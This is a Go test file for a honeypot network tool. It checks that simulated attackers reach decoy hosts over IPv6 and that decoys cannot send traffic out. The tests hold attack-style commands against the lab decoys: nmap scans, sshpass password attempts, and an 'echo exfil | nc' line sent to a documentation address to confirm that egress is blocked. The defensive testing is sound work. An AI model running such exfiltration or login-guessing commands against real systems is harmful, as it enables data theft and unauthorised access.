package lan_test

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/decnet/decnet"
	"github.com/decnet/decnet/fleet"
	"github.com/decnet/decnet/fleet/internal/fleettest"
	"github.com/decnet/decnet/fleet/lan"
	"github.com/decnet/decnet/services"
)

// plan6 makes a fleet as plan does, with second addresses.
func plan6(t testing.TB, reg *services.Registry, text string) decnet.Fleet {
	t.Helper()
	opt := options()
	opt.Subnet6, opt.Gateway6 = netip.MustParsePrefix(subnet6), netip.MustParseAddr(gatewayAddr6)
	f, err := fleet.FromINI(reg, []byte(text), opt)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// TestW16_AttackersReachDeckiesByIPv6 deploys one decky of each OS family and attacks its
// second address, and the one of the link.
func TestW16_AttackersReachDeckiesByIPv6(t *testing.T) {
	needs(t, "curl", "redis-cli", "sshpass", "ssh", "ping", "nmap")
	l := newLab(t)
	reg := registry(t)
	var seen fleettest.Events
	rt := start(t, reg, lan.Options{Sink: &seen})
	f := plan6(t, reg, everyFamily("ftp, http, redis, ssh"))
	apply(t, rt, f)
	macs, err := fleet.MACs(f)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range f.Deckies {
		host := d.Addr6.String()
		link, err := fleet.LinkLocal(d, macs[d.Name])
		if err != nil {
			t.Fatal(err)
		}
		sysctls, err := fleet.Sysctls6(d.OSFamily)
		if err != nil {
			t.Fatal(err)
		}
		hops := sysctls["net.ipv6.conf.default.hop_limit"]
		for _, at := range []string{host, link.String() + "%25att0"} {
			if page := l.attack(t, "curl", "-gs", "-m", "10", "http://["+at+"]/index-of-"+d.Name); !strings.Contains(page, "<html") {
				t.Errorf("%s: the page at %s is %q", d.Name, at, page)
			}
		}
		if answer := l.attack(t, "redis-cli", "-h", host, "ping"); answer != "PONG\n" {
			t.Errorf("%s: redis answers %q", d.Name, answer)
		}
		if answer := l.attack(t, "redis-cli", "-h", d.Addr.String(), "ping"); answer != "PONG\n" {
			t.Errorf("%s: redis answers %q on the first address", d.Name, answer)
		}
		l.attack(t, "sshpass", "-p", "six-"+d.Name, "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
			"-o", "NumberOfPasswordPrompts=1", "-o", "PreferredAuthentications=password", "intruder@"+host, "id")
		if list := l.attack(t, "curl", "-gsv", "-m", "10", "ftp://anonymous:x@["+host+"]/"); !strings.Contains(list, "Entering Extended Passive Mode") || strings.Contains(list, "Failed to connect") {
			t.Errorf("%s: FTP says %s", d.Name, list)
		}
		if out := l.attack(t, "ping", "-6", "-n", "-c", "1", host); !strings.Contains(out, " ttl="+hops+" ") {
			t.Errorf("%s: hop limit %s is not in %s", d.Name, hops, out)
		}
		for scan, reason := range map[string]string{"-sS": "reset", "-sA": "reset", "-sF": "reset", "-sU": "port-unreach"} {
			out := l.attack(t, "nmap", "-6", "-n", "-Pn", "--reason", scan, "-p", "81", host)
			if !regexp.MustCompile(`(?m)^81/(tcp|udp) .* ` + reason + ` ttl ` + hops).MatchString(out) {
				t.Errorf("%s: %s:\n%s", d.Name, scan, out)
			}
		}
		if neighbour := l.attack(t, "ip", "-6", "neigh", "show", host); !strings.Contains(neighbour, " lladdr "+macs[d.Name].String()+" ") {
			t.Errorf("%s has %s, the attacker knows %q", d.Name, macs[d.Name], neighbour)
		}
		ns, err := rt.Namespace(d.Name)
		if err != nil {
			t.Fatal(err)
		}
		sysctls["net.ipv6.conf.eth0.hop_limit"], sysctls["net.ipv6.conf.eth0.accept_ra"] = hops, "0"
		inside(t, ns, func() {
			for key, want := range sysctls {
				got, err := os.ReadFile("/proc/thread-self/root/proc/sys/" + strings.ReplaceAll(key, ".", "/"))
				// The kernel keeps this one in ticks of its clock.
				if key == "net.ipv6.icmp.ratelimit" && want == "250" && string(got) == "252\n" {
					continue
				}
				if err != nil || strings.TrimSpace(string(got)) != want {
					t.Errorf("%s: %s is %q, want %s, %v", d.Name, key, got, want, err)
				}
			}
		})
		var has []string
		for _, m := range regexp.MustCompile(`inet6 (\S+) scope (\S+) `).FindAllStringSubmatch(within(t, ns, "ip", "-6", "addr", "show", "dev", "eth0"), -1) {
			has = append(has, m[1]+" "+m[2])
		}
		if want := []string{host + "/64 global", link.String() + "/64 link"}; strings.Join(has, ", ") != strings.Join(want, ", ") {
			t.Errorf("%s has the addresses %v, want %v", d.Name, has, want)
		}
		if route := within(t, ns, "ip", "-6", "route", "show", "default"); !strings.HasPrefix(route, "default via "+gatewayAddr6+" dev eth0") {
			t.Errorf("%s: default route %q", d.Name, route)
		}
	}
	for _, d := range f.Deckies {
		waitFor(t, "password tried at "+d.Name, func() bool {
			for _, e := range seen.Of("auth_attempt") {
				if e.Decky == d.Name && e.Service == "ssh" && e.Attacker == netip.MustParseAddr(attackerAddr6) && e.Value("password") == "six-"+d.Name {
					return true
				}
			}
			return false
		})
	}
	fromTheLink := 0
	for _, e := range seen.Of("connect") {
		if strings.Contains(e.Value("src_ip")+e.Value("dst_ip"), "%") {
			t.Errorf("an event has a zone: %v", e.Fields)
		}
		if e.Attacker.IsLinkLocalUnicast() {
			fromTheLink++
		}
	}
	if fromTheLink != len(f.Deckies) {
		t.Errorf("%d connections from a link-local address, want %d", fromTheLink, len(f.Deckies))
	}
	if blocked := seen.Of("egress_blocked"); len(blocked) > 0 {
		t.Errorf("replies were blocked: %v", blocked)
	}
}

// TestW17_NothingButRepliesLeavesADeckyByIPv6 tries to reach out from inside.
func TestW17_NothingButRepliesLeavesADeckyByIPv6(t *testing.T) {
	needs(t, "tcpdump", "nc", "redis-cli", "ping")
	l := newLab(t)
	reg := registry(t)
	var seen fleettest.Events
	rt := start(t, reg, lan.Options{Sink: &seen})
	f := plan6(t, reg, "[locked]\nservices=redis\n[control]\nservices=redis\n")
	apply(t, rt, f)
	ns, err := rt.Namespace("locked")
	if err != nil {
		t.Fatal(err)
	}
	packets := l.capture(t)
	for _, try := range []struct {
		args                    []string
		protocol, address, port string
	}{
		{[]string{"nc", "-6", "-w", "1", attackerAddr6, "8080"}, "tcp", attackerAddr6, "8080"},
		{[]string{"sh", "-c", "echo exfil | nc -6 -u -w 1 2001:db8::53 53"}, "udp", "2001:db8::53", "53"},
		{[]string{"ping", "-6", "-c", "1", "-W", "1", "ff02::1%eth0"}, "icmpv6", "ff02::1", ""},
	} {
		within(t, ns, try.args...)
		waitFor(t, fmt.Sprintf("an event of %v", try.args), func() bool {
			for _, e := range seen.Of("egress_blocked") {
				if e.Decky == "locked" && e.Value("protocol") == try.protocol && e.Value("dst_ip") == try.address && e.Value("dst_port") == try.port {
					return true
				}
			}
			return false
		})
	}
	if answer := l.attack(t, "redis-cli", "-h", f.Deckies[1].Addr6.String(), "ping"); answer != "PONG\n" {
		t.Errorf("the control answers %q", answer)
	}
	if out := packets("ip6 src host " + f.Deckies[1].Addr6.String()); !strings.Contains(out, ".6379 > "+attackerAddr6) {
		t.Errorf("the capture misses the replies of the control:\n%s", out)
	}
	if out := packets("ip6 src host " + f.Deckies[0].Addr6.String()); regexp.MustCompile(`> (?:` + attackerAddr6 + `|2001:db8::53|ff02::1): ICMP6, echo|8080|\.53:`).MatchString(out) {
		t.Errorf("these packets came out:\n%s", out)
	}
}

// TestIPv6AddressesChangePlaces exchanges those of two deckies, and takes IPv6 from one.
func TestIPv6AddressesChangePlaces(t *testing.T) {
	needs(t, "bridge")
	l := newLab(t)
	reg := registry(t)
	rt := start(t, reg, lan.Options{})
	apply(t, rt, plan6(t, reg, "[a]\nservices=redis\nip6=fd99::a\n[b]\nservices=redis\nip6=fd99::b\n[c]\nservices=redis\n"))
	a, c := l.talk(t, "[fd99::a]"), l.talk(t, "10.99.1.3")
	if !a.alive() || !l.talk(t, "[fd99::b]").alive() || !c.alive() {
		t.Fatal("a decky is silent")
	}
	f := plan6(t, reg, "[a]\nservices=redis\nip6=fd99::b\n[b]\nservices=redis\nip6=fd99::a\n[c]\nservices=redis\n")
	apply(t, rt, f)
	if a.alive() || !l.talk(t, "[fd99::a]").alive() || !l.talk(t, "[fd99::b]").alive() || !c.alive() {
		t.Error("after the exchange a decky is silent, or the same")
	}
	f.Deckies[2].Addr6 = netip.Addr{}
	six := plan6(t, reg, "[a]\nservices=redis\nip6=fd99::b\n[b]\nservices=redis\nip6=fd99::a\n[c]\nservices=redis\n").Deckies[2].Addr6
	apply(t, rt, f)
	if conn, err := l.dial(t, "["+six.String()+"]:6379"); err == nil {
		conn.Close()
		t.Error("the address that was taken away answers")
	}
	if !l.talk(t, "10.99.1.3").alive() || l.links(t) != 3 {
		t.Error("the decky without IPv6 is silent")
	}
}

// TestW29_AnIPv6AddressThatAnotherMachineHasIsRefused asks for addresses that cannot be had.
func TestW29_AnIPv6AddressThatAnotherMachineHasIsRefused(t *testing.T) {
	l := newLab(t)
	reg := registry(t)
	rt := start(t, reg, lan.Options{})
	run(t, "ip", "addr", "add", "fd99::9/64", "dev", "lab0", "nodad")
	attackerMAC := regexp.MustCompile(`link/ether (\S+)`).FindStringSubmatch(run(t, "ip", "-n", "attacker", "link", "show", "att0"))[1]
	for addr, want := range map[string]struct {
		kind error
		says string
	}{
		attackerAddr6: {decnet.ErrConflict, "b: address fd99::50 is in use on the LAN by " + attackerMAC},
		gatewayAddr6:  {decnet.ErrSemantic, "b: address fd99::1 is already that of the gateway"},
		"fd99::9":     {decnet.ErrSemantic, "b: address fd99::9 is already that of this machine"},
		"fd99::a":     {decnet.ErrSemantic, "b: address fd99::a is already that of a"},
		"fd98::1":     {decnet.ErrSemantic, "b: address fd98::1 is outside of the subnet fd99::/64"},
		"fd99::":      {decnet.ErrSemantic, "b: address fd99:: is not that of a machine"},
		"10.99.1.9":   {decnet.ErrSemantic, "b: second address 10.99.1.9 is not IPv6"},
	} {
		f := plan6(t, reg, "[a]\nservices=redis\nip6=fd99::a\n[b]\nservices=redis\n")
		f.Deckies[1].Addr6 = netip.MustParseAddr(addr)
		if err := rt.Apply(t.Context(), f); !errors.Is(err, want.kind) || !strings.Contains(err.Error(), want.says) {
			t.Errorf("%s: error %v, want %q", addr, err, want.says)
		}
	}
	f := plan6(t, reg, "[a]\nservices=redis\n")
	f.Subnet6 = netip.Prefix{}
	if err := rt.Apply(t.Context(), f); !errors.Is(err, decnet.ErrSemantic) || !strings.Contains(err.Error(), "net6 = fd00:1::/64") {
		t.Errorf("without a subnet: %v", err)
	}
	run(t, "ip", "-n", "attacker", "addr", "del", attackerAddr6+"/64", "dev", "att0")
	run(t, "ip", "-n", "attacker", "addr", "add", "fd99::51/64", "dev", "att0", "nodad")
	apply(t, rt, plan6(t, reg, "[a]\nservices=redis\nip6="+attackerAddr6+"\n"))
	if !l.talk(t, "["+attackerAddr6+"]").alive() {
		t.Error("the decky is silent")
	}
}
